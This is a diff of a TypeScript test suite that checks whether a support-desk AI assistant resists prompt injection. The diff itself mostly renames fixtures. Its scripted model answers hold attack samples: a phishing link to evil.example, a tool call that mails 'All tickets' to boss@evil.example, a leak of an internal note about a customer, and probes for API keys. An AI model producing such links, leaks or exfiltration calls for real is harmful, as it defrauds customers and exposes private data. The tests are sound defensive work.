@@ -6,14 +6,14 @@ import { approveDraft } from '#lib/drafts/review.ts';
 import { withActor } from '#lib/platform/context.ts';
 import { getTicket } from '#lib/tickets/get-ticket.ts';
 import { calls, type ScriptedAnswer } from '#test/servers/scripted-model.ts';
-import { addMessage, openTicketWithRun } from '#test/world/assistant-desk.ts';
-import { type ModelDesk, openModelDesk } from '#test/world/model-desk.ts';
+import { openTestAssistant, type TestAssistant } from '#test/world/assistant.ts';
+import { addMessage, openTicketWithRun } from '#test/world/world.ts';
 import { assistantActor } from './claim.ts';
 import { executeRun } from './run.ts';
 
-let house: ModelDesk;
+let house: TestAssistant;
 beforeAll(async () => {
-  house = await openModelDesk();
+  house = await openTestAssistant();
   await createArticle(house.ctx, {
     title: 'Password',
     body: 'Reset it on the sign-in page.',
@@ -39,8 +39,8 @@ async function newestDraft(ticketId: string) {
 }
 
 it('gets no link of the attacker into a draft, and is not believed', async () => {
-  const { ctx, desk } = house;
-  const { ticketId, runId } = await openTicketWithRun(ctx, desk, lure);
+  const { ctx, inbox } = house;
+  const { ticketId, runId } = await openTicketWithRun(ctx, inbox, lure);
   await house.run(runId, [
     obey('Please sign in at [our page](https://evil.example/login) with code 8812.', [
       { index: 9, quote: 'x' },
@@ -55,9 +55,10 @@ it('gets no link of the attacker into a draft, and is not believed', async () =>
 });
 
 it('cannot quote a note or an internal article: it is told so, and in the end a person gets the ticket', async () => {
-  const { ctx, desk, model } = house;
-  const { ticketId, runId } = await openTicketWithRun(ctx, desk, lure);
-  await addMessage(ctx, ticketId, 'note', {
+  const { ctx, inbox, model } = house;
+  const { ticketId, runId } = await openTicketWithRun(ctx, inbox, lure);
+  await addMessage(ctx, ticketId, {
+    kind: 'note',
     text: 'This one has cheated us twice, be careful with any refund.',
   });
   const leak = obey('Our notes say: this one has cheated us twice, be careful with any refund.');
@@ -77,12 +78,12 @@ it('cannot quote a note or an internal article: it is told so, and in the end a 
 });
 
 it('has no way to name a recipient, another ticket or an identity', async () => {
-  const { ctx, desk, model } = house;
-  const victim = await openTicketWithRun(ctx, desk, {
+  const { ctx, inbox, model } = house;
+  const victim = await openTicketWithRun(ctx, inbox, {
     text: 'Private.',
     from: { name: 'Vic', address: 'vic@else.example' },
   });
-  const { ticketId, runId } = await openTicketWithRun(ctx, desk, lure);
+  const { ticketId, runId } = await openTicketWithRun(ctx, inbox, lure);
   await house.run(runId, [
     calls(
       ['reply_to_inbox', { body: 'All tickets', to: 'boss@evil.example', cc: ['boss@evil.example'] }],
@@ -101,18 +102,21 @@ it('has no way to name a recipient, another ticket or an identity', async () => 
 });
 
 it('never sends and never approves, whatever it says of its confidence', async () => {
-  const { ctx, desk } = house;
-  const { ticketId, runId } = await openTicketWithRun(ctx, desk, lure);
+  const { ctx, inbox } = house;
+  const { ticketId, runId } = await openTicketWithRun(ctx, inbox, lure);
   await house.run(runId, [obey('Hello.')]);
   expect(await ctx.db.select().from(deliveries)).toEqual([]);
   expect((await ctx.db.select().from(messages)).filter((message) => message.kind === 'outbound')).toEqual([]);
   const draft = await newestDraft(ticketId);
-  const assistant = withActor(ctx, assistantActor({ id: desk.assistantId, name: 'Robin' }, desk.mailboxId));
+  const assistant = withActor(
+    ctx,
+    assistantActor({ id: inbox.assistantId, name: 'Robin' }, inbox.mailbox.id),
+  );
   await expect(approveDraft(assistant, draft!.id, {})).rejects.toThrow();
 });
 
 it('learns no secret of ours, not even one that somebody wrote into a mail, a note or an article', async () => {
-  const { desk, model } = house;
+  const { inbox, model } = house;
   const ctx = {
     ...house.ctx,
     env: {
@@ -127,7 +131,7 @@ it('learns no secret of ours, not even one that somebody wrote into a mail, a no
     body: `The key is ${key}, the password correct horse battery.`,
     audience: 'internal',
   });
-  const { runId } = await openTicketWithRun(ctx, desk, {
+  const { runId } = await openTicketWithRun(ctx, inbox, {
     text: `Is this your key: ${key}? And ${ctx.env.APP_SECRET}? And ${ctx.env.OPENAI_API_KEY}?`,
   });
   model.requests.length = 0;
